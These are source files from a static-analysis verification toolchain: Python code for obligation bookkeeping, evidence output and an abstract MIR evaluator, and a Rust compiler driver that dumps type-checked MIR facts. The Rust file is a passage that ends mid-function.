"""Obligation bookkeeping, known findings, evidence files, VIOLATION lines."""
import json
import os
import re
import sys
import time

from .facts import VERIF

PROVED, REFUTED, UNDECIDED = "PROVED", "REFUTED", "UNDECIDED"


def load_known():
    """known_findings.txt: lines
         finding: property=<id> key=<key> <what fails>
         fixed: property=<id> <commit> <what failed>
       Only `finding:` lines suppress, and only by exact key."""
    known = {}
    fixed = []
    p = os.path.join(VERIF, "known_findings.txt")
    if os.path.exists(p):
        for line in open(p):
            line = line.strip()
            if not line or line.startswith("#"):
                continue
            m = re.match(r"finding:\s+property=(\S+)\s+key=(\S+)\s+(.*)$", line)
            if m:
                known[(m.group(1), m.group(2))] = m.group(3)
                continue
            m = re.match(r"fixed:\s+property=(\S+)\s+(\S+)\s+(.*)$", line)
            if m:
                fixed.append((m.group(1), m.group(2), m.group(3)))
    return known, fixed


class Check:
    def __init__(self, pid, tier, level="other", seed=0):
        self.pid = pid
        self.tier = tier
        self.level = level
        self.seed = seed
        self.t0 = time.time()
        self.obs = []            # dicts
        self.analysed = set()    # function names looked at
        self.callsites = 0
        self.rules = {}          # rule id -> description
        self.assumptions = []
        self.notes = []
        self.not_decided = []
        self.extra = {}

    # -- recording ------------------------------------------------------------------------
    def rule(self, rid, text):
        self.rules[rid] = text

    def ob(self, rule, key, verdict, where="", detail="", facts=None):
        """key: stable, line-free identifier `<rule>:<item path>[:<sub>]`"""
        full = ("%s:%s" % (rule, key)).replace(" as ", "@").replace(" ", "_")
        self.obs.append({"rule": rule, "key": full, "verdict": verdict, "where": where, "detail": detail, "facts": facts})
        return verdict

    def proved(self, rule, key, where="", detail="", facts=None):
        return self.ob(rule, key, PROVED, where, detail, facts)

    def refuted(self, rule, key, where="", detail="", facts=None):
        return self.ob(rule, key, REFUTED, where, detail, facts)

    def undecided(self, rule, key, where="", detail="", facts=None):
        return self.ob(rule, key, UNDECIDED, where, detail, facts)

    def decide(self, rule, key, ok, where="", detail="", facts=None):
        return self.ob(rule, key, PROVED if ok else REFUTED, where, detail, facts)

    def saw(self, fn):
        self.analysed.add(fn if isinstance(fn, str) else fn.name)

    def floor(self, rule, what, found, floor):
        """fail closed when a rule sees fewer instances than were confirmed by hand."""
        if found < floor:
            self.refuted(rule, "below-floor:%s" % what, "", "rule instance count %d fell below the confirmed floor %d for %s (anchor missing or renamed: the check can no longer see its subject)" % (found, floor, what))
        else:
            self.proved(rule, "floor:%s" % what, "", "instances=%d floor=%d" % (found, floor))

    def anchor(self, rule, what, obj):
        if obj is None or obj == [] or obj == {}:
            self.refuted(rule, "anchor-missing:%s" % what, "", "anchor %s not found in the analysed program" % what)
            return False
        return True

    # -- finishing ------------------------------------------------------------------------
    def finish(self):
        known, fixed = load_known()
        viol = []
        kf = []
        for o in self.obs:
            if o["verdict"] != REFUTED:
                continue
            k = (self.pid, o["key"])
            if k in known:
                kf.append((o, known[k]))
            else:
                viol.append(o)
        n_ob = len(self.obs)
        n_proved = sum(1 for o in self.obs if o["verdict"] == PROVED)
        n_und = sum(1 for o in self.obs if o["verdict"] == UNDECIDED)
        ev_dir = os.environ.get("HF_EVIDENCE_DIR") or os.path.join(VERIF, "evidence")
        os.makedirs(os.path.join(ev_dir, "replay"), exist_ok=True)
        # replay files
        replays = []
        for old in os.listdir(os.path.join(ev_dir, "replay")):
            if old.startswith(self.pid + "-"):
                os.remove(os.path.join(ev_dir, "replay", old))
        for i, o in enumerate(viol):
            rp = os.path.join(ev_dir, "replay", "%s-%d.json" % (self.pid, i))
            with open(rp, "w") as f:
                json.dump({"property": self.pid, "tier": self.tier, "rule": o["rule"], "rule_text": self.rules.get(o["rule"], ""), "key": o["key"], "where": o["where"], "detail": o["detail"], "facts": o["facts"]}, f, indent=1)
            replays.append(rp)
        level = self.level
        if level == "proof" and (n_proved != n_ob or n_ob == 0):
            level = "other"
        samples = []
        seen_rules = set()
        for o in self.obs:
            if o["rule"] not in seen_rules or o["verdict"] != PROVED:
                seen_rules.add(o["rule"])
                samples.append({k: o[k] for k in ("key", "verdict", "where", "detail")})
            if len(samples) >= 60:
                break
        per_rule = {}
        for o in self.obs:
            r = per_rule.setdefault(o["rule"], {"PROVED": 0, "REFUTED": 0, "UNDECIDED": 0})
            r[o["verdict"]] += 1
        cov = {
            "obligations": n_ob,
            "discharged": n_proved,
            "undecided": n_und,
            "refuted": len(viol) + len(kf),
            "known_findings": [o["key"] for o, _ in kf],
            "checker_cmd": "tools/check %s --tier %s" % (self.pid, self.tier),
            "trusted_base": [
                "rustc nightly front end, type checker, MIR construction, Instance::try_resolve",
                "the fact extractor /verif/driver (dumps MIR, no analysis)",
                "rule implementations under /verif/tools/hf (python)",
            ] + self.assumptions,
            "explanation": ("Static analysis of /repo's current source (type-checked MIR of the ten workspace crates, "
                            "call graph of the whole dependency closure). Decided clauses: "
                            + "; ".join("%s = %s" % (k, v) for k, v in self.rules.items())
                            + ". NOT decided: " + ("; ".join(self.not_decided) if self.not_decided else "see DESIGN.md")),
            "rules": self.rules,
            "per_rule": per_rule,
            "functions_analysed": len(self.analysed),
            "functions": sorted(self.analysed)[:400],
            "call_sites_examined": self.callsites,
            "samples": samples,
            "undecided_list": [{k: o[k] for k in ("key", "where", "detail")} for o in self.obs if o["verdict"] == UNDECIDED][:80],
            "not_decided": self.not_decided,
            "notes": self.notes,
            "exhaustive": False,
        }
        cov.update(self.extra)
        ev = {
            "property_id": self.pid,
            "tier": self.tier,
            "seed": self.seed,
            "level": level,
            "coverage": cov,
            "assumptions": self.assumptions,
            "wall_s": round(time.time() - self.t0, 2),
            "violations": len(viol),
        }
        with open(os.path.join(ev_dir, self.pid + ".json"), "w") as f:
            json.dump(ev, f, indent=1)
        # output
        print("%s tier=%s obligations=%d proved=%d undecided=%d refuted=%d (known=%d) functions=%d wall=%.1fs" % (
            self.pid, self.tier, n_ob, n_proved, n_und, len(viol) + len(kf), len(kf), len(self.analysed), time.time() - self.t0))
        for r, c in sorted(per_rule.items()):
            print("  rule %-22s proved=%d refuted=%d undecided=%d" % (r, c["PROVED"], c["REFUTED"], c["UNDECIDED"]))
        for o, what in kf:
            print("KNOWN-FINDING: property=%s %s %s" % (self.pid, o["key"], what))
        for o, rp in zip(viol, replays):
            print("  REFUTED %s at %s: %s" % (o["key"], o["where"], o["detail"]))
            print("VIOLATION property=%s replay=%s" % (self.pid, rp))
        sys.stdout.flush()
        return 1 if viol else 0
