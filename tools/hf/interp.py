"""A tiny *abstract* MIR evaluator over finite value domains, used for decision-table extraction
(C17 residue table, suffix tables, C12 token-kind predicates).  It never runs Harper: it walks
the MIR decision structure of one function with abstract inputs chosen by the rule.

Values:  ("int", n)  ("bool", b)  ("char", c)  ("res", r, m)   an integer known only modulo m
         ("variant", adt, idx, name, fields)  ("tuple", [v...])  ("unknown", why)
"""
from .util import place_of


class Stuck(Exception):
    pass


def _int_of(k):
    if "int" in k:
        n = int(k["int"])
        txt = k.get("txt", "")
        if txt in ("true", "false"):
            return ("bool", txt == "true")
        if txt.startswith("'"):
            return ("char", n)
        return ("int", n)
    c = k.get("const", "?")
    if isinstance(c, str) and len(c) >= 2 and c[0] == '"' and c[-1] == '"':
        return ("str", c[1:-1])
    return ("unknown", "const:" + c[:30])


class Interp:
    def __init__(self, fn, prog=None, max_steps=4000):
        self.fn = fn
        self.prog = prog
        self.max_steps = max_steps

    def read_place(self, env, pl, hooks):
        if hooks and "read" in hooks:
            v = hooks["read"](pl, env)
            if v is not None:
                return v
        v = env.get(pl[0], ("unknown", "uninit _%d" % pl[0]))
        for e in pl[1:]:
            if e == "*":
                continue
            if e[0] == "f":
                if v[0] == "tuple" and e[1] < len(v[1]):
                    v = v[1][e[1]]
                elif v[0] == "variant" and e[1] < len(v[4]):
                    v = v[4][e[1]]
                else:
                    return ("unknown", "field of %s" % v[0])
            elif e[0] == "dc":
                if v[0] == "variant" and v[2] != e[1]:
                    raise Stuck("downcast to wrong variant")
            elif e[0] == "i":
                idx = env.get(e[1])
                if v[0] == "tuple" and idx and idx[0] == "int" and idx[1] < len(v[1]):
                    v = v[1][idx[1]]
                else:
                    return ("unknown", "index")
            elif e[0] == "ci":
                if v[0] == "tuple" and e[1] < len(v[1]):
                    v = v[1][e[1]]
                else:
                    return ("unknown", "constant index")
            else:
                return ("unknown", "proj")
        return v

    def operand(self, env, op, hooks):
        if "k" in op:
            k = op["k"]
            if "fn" in k or "static" in k:
                return ("unknown", "fn/static const")
            return _int_of(k)
        return self.read_place(env, place_of(op), hooks)

    def binop(self, op, a, b):
        if op.endswith("WithOverflow"):
            r = self.binop(op[:-12], a, b)
            return ("tuple", [r, ("bool", False)])
        if a[0] == "str" and b[0] == "str" and op in ("Eq", "Ne"):
            return ("bool", (a[1] == b[1]) == (op == "Eq"))
        if a[0] == "res" and b[0] == "int" and op == "Rem":
            if a[2] % b[1] == 0 and b[1] > 0:
                return ("int", a[1] % b[1])
            return ("unknown", "Rem by %d of a value known mod %d" % (b[1], a[2]))
        num = {"int", "char"}
        if a[0] in num and b[0] in num:
            x, y = a[1], b[1]
            if op == "Add": return ("int", x + y)
            if op == "Sub": return ("int", x - y)
            if op == "Mul": return ("int", x * y)
            if op == "Rem": return ("int", x % y) if y else ("unknown", "rem0")
            if op == "Div": return ("int", x // y) if y else ("unknown", "div0")
            if op == "Eq": return ("bool", x == y)
            if op == "Ne": return ("bool", x != y)
            if op == "Lt": return ("bool", x < y)
            if op == "Le": return ("bool", x <= y)
            if op == "Gt": return ("bool", x > y)
            if op == "Ge": return ("bool", x >= y)
            if op == "BitAnd": return ("int", x & y)
            if op == "BitOr": return ("int", x | y)
        if a[0] == "bool" and b[0] == "bool":
            if op == "Eq": return ("bool", a[1] == b[1])
            if op == "Ne": return ("bool", a[1] != b[1])
            if op == "BitAnd": return ("bool", a[1] and b[1])
            if op == "BitOr": return ("bool", a[1] or b[1])
        return ("unknown", "binop %s on %s,%s" % (op, a[0], b[0]))

    def rvalue(self, env, rv, hooks):
        k = rv["k"]
        if k == "use":
            return self.operand(env, rv["op"], hooks)
        if k == "ref":
            return self.read_place(env, rv["place"], hooks)
        if k == "cast":
            v = self.operand(env, rv["op"], hooks)
            if rv["kind"] in ("int", "IntToInt") and v[0] in ("int", "char", "bool"):
                return ("int", int(v[1]))
            if hooks and "cast" in hooks:
                r = hooks["cast"](rv, v)
                if r is not None:
                    return r
            return v if v[0] == "res" and rv["kind"] in ("int",) else ("unknown", "cast %s" % rv["kind"])
        if k == "bin":
            return self.binop(rv["op"], self.operand(env, rv["a"], hooks), self.operand(env, rv["b"], hooks))
        if k == "un":
            v = self.operand(env, rv["a"], hooks)
            if rv["op"] == "Not" and v[0] == "bool":
                return ("bool", not v[1])
            if rv["op"] == "PtrMetadata" and v[0] == "tuple":
                return ("int", len(v[1]))        # length of a slice modelled as a tuple of its elements
            return ("unknown", "unop")
        if k == "len":
            v = self.read_place(env, rv["place"], hooks)
            if v[0] == "tuple":
                return ("int", len(v[1]))
            return ("unknown", "len of %s" % v[0])
        if k == "discr":
            v = self.read_place(env, rv["place"], hooks)
            if v[0] == "variant":
                return ("int", v[5] if len(v) > 5 else v[2])
            return ("unknown", "discr of %s" % v[0])
        if k == "agg":
            ops = [self.operand(env, o, hooks) for o in rv["ops"]]
            if rv["agg"] == "tuple" or rv["agg"] == "array":
                return ("tuple", ops)
            if rv["agg"] == "adt":
                return ("variant", rv["name"], rv["variant"], rv["vname"], ops)
            return ("unknown", "agg %s" % rv["agg"])
        return ("unknown", "rv %s" % k)

    def run(self, env, start_bb=0, start_stmt=0, hooks=None):
        """returns (value of _0 at return, trace of blocks).  Raises Stuck on an undecidable branch."""
        fn = self.fn
        bb, si = start_bb, start_stmt
        steps = 0
        trace = []
        while True:
            steps += 1
            if steps > self.max_steps:
                raise Stuck("step limit")
            blk = fn.blocks[bb]
            trace.append(bb)
            for s in blk["s"][si:]:
                if s["k"] == "assign":
                    v = self.rvalue(env, s["rv"], hooks)
                    lhs = s["lhs"]
                    if len(lhs) == 1:
                        env[lhs[0]] = v
                    else:
                        cur = env.get(lhs[0])
                        fl = [e for e in lhs[1:] if e != "*"]
                        if cur and cur[0] == "tuple" and len(fl) == 1 and fl[0][0] == "f" and fl[0][1] < len(cur[1]):
                            cur[1][fl[0][1]] = v
                        else:
                            env[lhs[0]] = ("unknown", "partial store")
            si = 0
            t = blk["t"]
            k = t["k"]
            if k == "return":
                return env.get(0, ("unknown", "no return value")), trace
            if k == "goto":
                bb = t["target"]
            elif k in ("assert", "drop"):
                bb = t["target"]
            elif k == "switch":
                d = self.operand(env, t["discr"], hooks)
                if d[0] == "bool":
                    n = 1 if d[1] else 0
                elif d[0] in ("int", "char"):
                    n = d[1]
                else:
                    raise Stuck("switch on %s at bb%d (%s)" % (d[0], bb, d[1] if len(d) > 1 else ""))
                nxt = None
                for v, x in t["targets"]:
                    if int(v) == n:
                        nxt = x
                bb = nxt if nxt is not None else t["otherwise"]
            elif k == "call":
                v = None
                if hooks and "call" in hooks:
                    v = hooks["call"](t, [self.operand(env, a, hooks) for a in t["args"]])
                if v is None:
                    v = ("unknown", "call")
                if len(t["dest"]) == 1:
                    env[t["dest"][0]] = v
                if t["target"] is None:
                    raise Stuck("diverging call")
                bb = t["target"]
            elif k == "unreachable":
                raise Stuck("unreachable reached")
            else:
                raise Stuck("terminator %s" % k)
