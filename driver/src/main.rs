// harper-facts: a rustc_private driver that dumps the type-checked program as facts.
//
// Used as RUSTC_WRAPPER under `cargo +nightly check`: argv[1] is the real rustc, the rest is
// the rustc command line.  For every compilation unit that is not a build script or a
// proc-macro it writes (one write per file, so parallel rustc processes never interleave)
//
//   $HF_OUT/<crate>-<metadata hash>.edges.tsv   call-graph facts (every unit)
//   $HF_OUT/<crate>-<metadata hash>.mir.jsonl   full MIR, ADTs, impls, statics (only units of
//                                               workspace members: CARGO_PRIMARY_PACKAGE set)
//
// No analysis happens here; all rules live in /verif/tools (python) and read these facts.
#![feature(rustc_private)]
#![allow(unused)]
extern crate rustc_abi;
extern crate rustc_data_structures;
extern crate rustc_driver;
extern crate rustc_hir;
extern crate rustc_index;
extern crate rustc_interface;
extern crate rustc_middle;
extern crate rustc_session;
extern crate rustc_span;

use rustc_driver::Compilation;
use rustc_hir::def::DefKind;
use rustc_hir::def_id::{DefId, LOCAL_CRATE};
use rustc_interface::interface::Compiler;
use rustc_middle::mir::*;
use rustc_middle::ty::adjustment::PointerCoercion;
use rustc_middle::ty::{self, Instance, Ty, TyCtxt, TypingEnv};
use rustc_span::Span;
use std::collections::HashMap;
use std::fmt::Write as _;
use std::io::Write as _;

fn esc(s: &str) -> String {
    let mut o = String::with_capacity(s.len() + 2);
    o.push('"');
    for c in s.chars() {
        match c {
            '"' => o.push_str("\\\""),
            '\\' => o.push_str("\\\\"),
            '\n' => o.push_str("\\n"),
            '\r' => o.push_str("\\r"),
            '\t' => o.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                let _ = write!(o, "\\u{:04x}", c as u32);
            }
            c => o.push(c),
        }
    }
    o.push('"');
    o
}

fn qpath<'tcx>(tcx: TyCtxt<'tcx>, did: DefId) -> String {
    format!("{}{}", tcx.crate_name(did.krate), tcx.def_path(did).to_string_no_crate_verbose())
}

fn ty_head<'tcx>(tcx: TyCtxt<'tcx>, t: Ty<'tcx>) -> String {
    match t.kind() {
        ty::Adt(a, _) => qpath(tcx, a.did()),
        ty::Closure(d, _) | ty::Coroutine(d, _) | ty::CoroutineClosure(d, _) | ty::FnDef(d, _) => qpath(tcx, *d),
        ty::Ref(_, i, _) => ty_head(tcx, *i),
        ty::RawPtr(i, _) => ty_head(tcx, *i),
        ty::Param(_) => "<param>".into(),
        ty::Dynamic(..) => "<dyn>".into(),
        ty::Slice(_) => "<slice>".into(),
        ty::Str => "<str>".into(),
        ty::Tuple(_) => "<tuple>".into(),
        ty::Bool | ty::Char | ty::Int(_) | ty::Uint(_) | ty::Float(_) => format!("<{}>", t),
        _ => "<other>".into(),
    }
}

struct Cx<'tcx> {
    tcx: TyCtxt<'tcx>,
    tys: HashMap<Ty<'tcx>, usize>,
    ty_lines: Vec<String>,
    named: std::collections::HashSet<DefId>,
    names: String,
}

impl<'tcx> Cx<'tcx> {
    /// remember the user-facing path of an external item (sink tables match on it)
    fn note(&mut self, d: DefId) {
        if !d.is_local() && self.named.insert(d) {
            let _ = writeln!(self.names, "N\t{}\t{}", qpath(self.tcx, d), self.tcx.def_path_str(d));
        }
    }
    fn span_str(&self, sp: Span) -> String {
        let sm = self.tcx.sess.source_map();
        let lo = sm.lookup_char_pos(sp.lo());
        format!("{}:{}", lo.file.name.prefer_local_unconditionally(), lo.line)
    }
    fn line(&self, sp: Span) -> usize {
        let sm = self.tcx.sess.source_map();
        sm.lookup_char_pos(sp.lo()).line
    }
    fn callsite_line(&self, sp: Span) -> usize {
        // line of the outermost expansion site (what the user wrote)
        let sp2 = sp.source_callsite();
        self.line(sp2)
    }

    fn ty_id(&mut self, t: Ty<'tcx>) -> usize {
        if let Some(i) = self.tys.get(&t) {
            return *i;
        }
        let id = self.ty_lines.len();
        self.tys.insert(t, id);
        self.ty_lines.push(String::new());
        let tcx = self.tcx;
        let s = esc(&format!("{}", t));
        let body = match t.kind() {
            ty::Adt(a, args) => {
                let ids: Vec<String> = args.types().map(|x| self.ty_id(x).to_string()).collect();
                format!("\"k\":\"adt\",\"name\":{},\"args\":[{}]", esc(&qpath(tcx, a.did())), ids.join(","))
            }
            ty::Ref(_, i, m) => format!("\"k\":\"ref\",\"mut\":{},\"in\":{}", m.is_mut(), self.ty_id(*i)),
            ty::RawPtr(i, m) => format!("\"k\":\"ptr\",\"mut\":{},\"in\":{}", m.is_mut(), self.ty_id(*i)),
            ty::Slice(i) => format!("\"k\":\"slice\",\"in\":{}", self.ty_id(*i)),
            ty::Array(i, n) => format!("\"k\":\"array\",\"in\":{},\"len\":{}", self.ty_id(*i), esc(&format!("{}", n))),
            ty::Tuple(ts) => {
                let ids: Vec<String> = ts.iter().map(|x| self.ty_id(x).to_string()).collect();
                format!("\"k\":\"tuple\",\"elems\":[{}]", ids.join(","))
            }
            ty::Param(p) => format!("\"k\":\"param\",\"name\":{}", esc(p.name.as_str())),
            ty::Dynamic(preds, ..) => {
                let mut names = vec![];
                if let Some(p) = preds.principal_def_id() {
                    names.push(esc(&qpath(tcx, p)));
                }
                format!("\"k\":\"dyn\",\"traits\":[{}]", names.join(","))
            }
            ty::Closure(d, args) => {
                let ids: Vec<String> = args.as_closure().upvar_tys().iter().map(|x| self.ty_id(x).to_string()).collect();
                format!("\"k\":\"closure\",\"name\":{},\"upvars\":[{}]", esc(&qpath(tcx, *d)), ids.join(","))
            }
            ty::Coroutine(d, _) => format!("\"k\":\"coroutine\",\"name\":{}", esc(&qpath(tcx, *d))),
            ty::CoroutineClosure(d, _) => format!("\"k\":\"coroutine_closure\",\"name\":{}", esc(&qpath(tcx, *d))),
            ty::FnDef(d, args) => {
                let ids: Vec<String> = args.types().map(|x| self.ty_id(x).to_string()).collect();
                format!("\"k\":\"fndef\",\"name\":{},\"args\":[{}]", esc(&qpath(tcx, *d)), ids.join(","))
            }
            ty::FnPtr(..) => "\"k\":\"fnptr\"".to_string(),
            ty::Str => "\"k\":\"str\"".to_string(),
            ty::Never => "\"k\":\"never\"".to_string(),
            ty::Bool | ty::Char | ty::Int(_) | ty::Uint(_) | ty::Float(_) => "\"k\":\"prim\"".to_string(),
            ty::Alias(..) => "\"k\":\"alias\"".to_string(),
            _ => "\"k\":\"other\"".to_string(),
        };
        let freeze = if ty::TypeVisitableExt::has_param(&t) || ty::TypeVisitableExt::has_aliases(&t) || ty::TypeVisitableExt::has_escaping_bound_vars(&t) {
            "null".to_string()
        } else {
            std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| t.is_freeze(tcx, TypingEnv::fully_monomorphized()))).map(|b| b.to_string()).unwrap_or("null".into())
        };
        self.ty_lines[id] = format!("{{\"t\":\"ty\",\"id\":{},\"s\":{},\"freeze\":{},{}}}", id, s, freeze, body);
        id
    }

    fn place(&mut self, body: &Body<'tcx>, p: &Place<'tcx>) -> String {
        let tcx = self.tcx;
        let mut out = format!("[{}", p.local.as_u32());
        let mut pty = PlaceTy::from_ty(body.local_decls[p.local].ty);
        for e in p.projection.iter() {
            match e {
                ProjectionElem::Deref => out.push_str(",\"*\""),
                ProjectionElem::Field(f, _) => {
                    let name = match pty.ty.kind() {
                        ty::Adt(a, _) => {
                            let v = match pty.variant_index {
                                Some(v) => Some(v),
                                None => {
                                    if a.is_enum() {
                                        None
                                    } else {
                                        Some(rustc_abi::FIRST_VARIANT)
                                    }
                                }
                            };
                            v.and_then(|v| a.variant(v).fields.get(f)).map(|fd| fd.name.to_string())
                        }
                        ty::Closure(d, _) | ty::Coroutine(d, _) => {
                            let names = tcx.closure_saved_names_of_captured_variables(*d);
                            names.get(f).map(|s| s.to_string())
                        }
                        _ => None,
                    };
                    let _ = write!(out, ",[\"f\",{},{}]", f.as_u32(), name.map(|n| esc(&n)).unwrap_or("null".into()));
                }
                ProjectionElem::Index(l) => {
                    let _ = write!(out, ",[\"i\",{}]", l.as_u32());
                }
                ProjectionElem::ConstantIndex { offset, min_length, from_end } => {
                    let _ = write!(out, ",[\"ci\",{},{},{}]", offset, min_length, from_end);
                }
                ProjectionElem::Subslice { from, to, from_end } => {
                    let _ = write!(out, ",[\"sub\",{},{},{}]", from, to, from_end);
                }
                ProjectionElem::Downcast(name, v) => {
                    let _ = write!(out, ",[\"dc\",{},{}]", v.as_u32(), name.map(|n| esc(n.as_str())).unwrap_or("null".into()));
                }
                _ => out.push_str(",[\"other\"]"),
            }
            pty = pty.projection_ty(tcx, e);
        }
        out.push(']');
        out
    }

    fn fn_ref(&mut self, env: TypingEnv<'tcx>, d: DefId, args: ty::GenericArgsRef<'tcx>) -> String {
        let tcx = self.tcx;
        let mut inst = "null".to_string();
        let mut virt = false;
        match std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| Instance::try_resolve(tcx, env, d, args))) {
            Ok(Ok(Some(i))) => {
                if matches!(i.def, ty::InstanceKind::Virtual(..)) {
                    virt = true;
                } else {
                    inst = esc(&qpath(tcx, i.def_id()));
                }
            }
            _ => {}
        }
        let targs: Vec<String> = args.types().map(|x| self.ty_id(x).to_string()).collect();
        let tr = tcx.trait_of_assoc(d).map(|t| esc(&qpath(tcx, t))).unwrap_or("null".into());
        format!(
            "{{\"def\":{},\"pretty\":{},\"inst\":{},\"virt\":{},\"trait\":{},\"targs\":[{}]}}",
            esc(&qpath(tcx, d)),
            esc(&tcx.def_path_str(d)),
            inst,
            virt,
            tr,
            targs.join(",")
        )
    }

    fn constant(&mut self, env: TypingEnv<'tcx>, c: &ConstOperand<'tcx>) -> String {
        let tcx = self.tcx;
        let t = c.const_.ty();
        let tid = self.ty_id(t);
        if let ty::FnDef(d, args) = t.kind() {
            return format!("{{\"fn\":{},\"ty\":{}}}", self.fn_ref(env, *d, args), tid);
        }
        if t.is_integral() || t.is_bool() || t.is_char() {
            if let Some(si) = c.const_.try_eval_scalar_int(tcx, env) {
                let v = si.to_uint(si.size());
                let signed = if t.is_signed() { si.to_int(si.size()).to_string() } else { v.to_string() };
                return format!("{{\"int\":{},\"ty\":{},\"txt\":{}}}", esc(&signed), tid, esc(&format!("{}", c.const_)));
            }
        }
        if let Some(sd) = c.check_static_ptr(tcx) {
            return format!("{{\"static\":{},\"ty\":{}}}", esc(&qpath(tcx, sd)), tid);
        }
        let mut txt = format!("{}", c.const_);
        if txt.len() > 300 {
            txt.truncate(300);
        }
        format!("{{\"const\":{},\"ty\":{}}}", esc(&txt), tid)
    }

    fn operand(&mut self, body: &Body<'tcx>, env: TypingEnv<'tcx>, o: &Operand<'tcx>) -> String {
        match o {
            Operand::Copy(p) => format!("{{\"c\":{}}}", self.place(body, p)),
            Operand::Move(p) => format!("{{\"m\":{}}}", self.place(body, p)),
            Operand::Constant(c) => format!("{{\"k\":{}}}", self.constant(env, c)),
            _ => "{\"o\":\"other\"}".to_string(),
        }
    }

    fn rvalue(&mut self, body: &Body<'tcx>, env: TypingEnv<'tcx>, rv: &Rvalue<'tcx>) -> String {
        let tcx = self.tcx;
        match rv {
            Rvalue::Use(o, ..) => format!("{{\"k\":\"use\",\"op\":{}}}", self.operand(body, env, o)),
            Rvalue::Repeat(o, n) => format!("{{\"k\":\"repeat\",\"op\":{},\"n\":{}}}", self.operand(body, env, o), esc(&format!("{}", n))),
            Rvalue::Ref(_, bk, p) => {
                let m = matches!(bk, BorrowKind::Mut { .. });
                format!("{{\"k\":\"ref\",\"mut\":{},\"place\":{}}}", m, self.place(body, p))
            }
            Rvalue::RawPtr(k, p) => format!("{{\"k\":\"rawptr\",\"mut\":{},\"place\":{}}}", matches!(k, RawPtrKind::Mut), self.place(body, p)),
            Rvalue::CopyForDeref(p) => format!("{{\"k\":\"use\",\"op\":{{\"c\":{}}}}}", self.place(body, p)),
            Rvalue::Cast(kind, o, t) => {
                let ks = match kind {
                    CastKind::PointerCoercion(PointerCoercion::ReifyFnPointer(_), _) => "reify".to_string(),
                    CastKind::PointerCoercion(PointerCoercion::ClosureFnPointer(_), _) => "closure_fnptr".to_string(),
                    CastKind::PointerCoercion(PointerCoercion::Unsize, _) => "unsize".to_string(),
                    CastKind::Transmute => "transmute".to_string(),
                    CastKind::IntToInt => "int".to_string(),
                    CastKind::FloatToInt => "float_to_int".to_string(),
                    CastKind::IntToFloat => "int_to_float".to_string(),
                    CastKind::FloatToFloat => "float".to_string(),
                    other => format!("{:?}", other),
                };
                let from = o.ty(&body.local_decls, tcx);
                let from_id = self.ty_id(from);
                format!("{{\"k\":\"cast\",\"kind\":{},\"op\":{},\"from\":{},\"to\":{}}}", esc(&ks), self.operand(body, env, o), from_id, self.ty_id(*t))
            }
            Rvalue::BinaryOp(op, ops) => {
                format!("{{\"k\":\"bin\",\"op\":{},\"a\":{},\"b\":{}}}", esc(&format!("{:?}", op)), self.operand(body, env, &ops.0), self.operand(body, env, &ops.1))
            }
            Rvalue::UnaryOp(op, o) => format!("{{\"k\":\"un\",\"op\":{},\"a\":{}}}", esc(&format!("{:?}", op)), self.operand(body, env, o)),
            Rvalue::Discriminant(p) => format!("{{\"k\":\"discr\",\"place\":{}}}", self.place(body, p)),
            Rvalue::Aggregate(kind, ops) => {
                let opsj: Vec<String> = ops.iter().map(|o| self.operand(body, env, o)).collect();
                let kj = match &**kind {
                    AggregateKind::Array(_) => "\"agg\":\"array\"".to_string(),
                    AggregateKind::Tuple => "\"agg\":\"tuple\"".to_string(),
                    AggregateKind::Adt(d, variant, args, _, active) => {
                        let adt = tcx.adt_def(*d);
                        let v = adt.variant(*variant);
                        let fields: Vec<String> = v.fields.iter().map(|f| esc(f.name.as_str())).collect();
                        format!("\"agg\":\"adt\",\"name\":{},\"variant\":{},\"vname\":{},\"fields\":[{}]", esc(&qpath(tcx, *d)), variant.as_u32(), esc(v.name.as_str()), fields.join(","))
                    }
                    AggregateKind::Closure(d, _) => format!("\"agg\":\"closure\",\"name\":{}", esc(&qpath(tcx, *d))),
                    AggregateKind::Coroutine(d, _) => format!("\"agg\":\"coroutine\",\"name\":{}", esc(&qpath(tcx, *d))),
                    AggregateKind::CoroutineClosure(d, _) => format!("\"agg\":\"coroutine_closure\",\"name\":{}", esc(&qpath(tcx, *d))),
                    AggregateKind::RawPtr(..) => "\"agg\":\"rawptr\"".to_string(),
                };
                format!("{{\"k\":\"agg\",{},\"ops\":[{}]}}", kj, opsj.join(","))
            }
            Rvalue::ThreadLocalRef(d) => format!("{{\"k\":\"tls\",\"name\":{}}}", esc(&qpath(tcx, *d))),
            other => format!("{{\"k\":\"other\",\"txt\":{}}}", esc(&format!("{:?}", other).chars().take(120).collect::<String>())),
        }
    }

    fn dump_body(&mut self, did: DefId, body: &Body<'tcx>, phase: &str, out: &mut String, edges: &mut String) {
        self.dump_body_named(did, body, phase, out, edges, None)
    }

    fn dump_body_named(&mut self, did: DefId, body: &Body<'tcx>, phase: &str, out: &mut String, edges: &mut String, suffix: Option<String>) {
        let tcx = self.tcx;
        let env = TypingEnv::post_analysis(tcx, did);
        let name = match &suffix { Some(sf) => format!("{}::{}", qpath(tcx, did), sf), None => qpath(tcx, did) };
        // call-graph facts of a promoted constant belong to the function it was promoted from
        let ename = qpath(tcx, did);
        const_refs(tcx, body, &ename, edges);
        let kind = tcx.def_kind(did);
        let promoted = suffix.is_some();
        let mut hdr = format!(
            "{{\"t\":\"fn\",\"name\":{},\"pretty\":{},\"kind\":{},\"phase\":{},\"span\":{},\"argc\":{}",
            esc(&name),
            esc(&tcx.def_path_str(did)),
            esc(&if promoted { "Promoted".to_string() } else { format!("{:?}", kind) }),
            esc(phase),
            esc(&self.span_str(body.span)),
            body.arg_count
        );
        if promoted {
        } else if let Some(ck) = tcx.coroutine_kind(did) {
            let _ = write!(hdr, ",\"coroutine\":{}", esc(&format!("{:?}", ck)));
        }
        if promoted {
            let _ = write!(hdr, ",\"promoted_of\":{}", esc(&qpath(tcx, did)));
        } else if matches!(kind, DefKind::Closure) {
            let _ = write!(hdr, ",\"parent\":{}", esc(&qpath(tcx, tcx.parent(did))));
        }
        if !promoted && matches!(kind, DefKind::AssocFn) {
            let parent = tcx.parent(did);
            if matches!(tcx.def_kind(parent), DefKind::Impl { .. }) {
                let self_ty = tcx.type_of(parent).instantiate_identity().skip_norm_wip();
                let sid = self.ty_id(self_ty);
                let _ = write!(hdr, ",\"impl_self\":{},\"impl_self_head\":{}", sid, esc(&ty_head(tcx, self_ty)));
                if let Some(tr) = tcx.impl_opt_trait_id(parent) {
                    let _ = write!(hdr, ",\"impl_trait\":{}", esc(&qpath(tcx, tr)));
                }
